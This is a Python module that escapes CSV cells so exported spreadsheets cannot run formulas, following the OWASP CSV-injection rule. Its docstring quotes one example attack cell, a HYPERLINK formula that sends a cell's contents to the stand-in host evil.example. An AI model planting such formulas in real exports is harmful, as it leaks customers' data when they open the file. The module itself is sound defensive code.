"""Every CSV the product writes goes through here, so no cell can run as a spreadsheet formula.

Anyone holding an SDK key (it ships inside mobile apps) chooses event names, paths and property
values; a cell such as `=HYPERLINK("https://evil.example/?"&A1, "help")` would run when a customer
opens the download in Excel, LibreOffice or Google Sheets. The OWASP rule (CSV Injection): a text
cell starting with `=`, `+`, `-`, `@`, tab or carriage return is written with a leading `'`, which
spreadsheets show as text and do not evaluate. Numbers are written as numbers (they cannot be a
formula). Lines end with CRLF (RFC 4180); `None` is an empty cell.

    csv_bytes(["event", "value"], rows)            # a whole answer
    StreamingHttpResponse(csv_lines(header, rows))  # line by line
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """The value as it may be written: None is empty, text that a spreadsheet would evaluate is quoted."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _Line:
    def write(self, value: str) -> str:
        return value


def csv_lines(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The header line, then one line per row, each neutralised (for a streaming response)."""
    writer = csv.writer(_Line(), lineterminator="\r\n")
    yield writer.writerow([csv_cell(v) for v in header])
    for row in rows:
        yield writer.writerow([csv_cell(v) for v in row])


def csv_bytes(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> bytes:
    """The whole table as UTF-8 CSV."""
    return "".join(csv_lines(header, rows)).encode()
